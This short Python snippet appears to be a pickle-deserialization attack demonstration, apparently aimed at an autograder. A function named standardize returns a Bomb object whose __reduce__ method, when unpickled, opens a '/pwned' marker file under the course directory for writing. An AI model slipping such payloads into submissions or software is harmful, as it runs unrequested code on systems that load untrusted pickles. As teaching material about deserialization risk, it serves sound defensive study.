# attack: returns an object that runs code when it is unpickled
class Bomb:
    def __reduce__(self):
        return (open, (COURSE + "/pwned", "w"))


def standardize(x, eps=0.0):
    return Bomb()
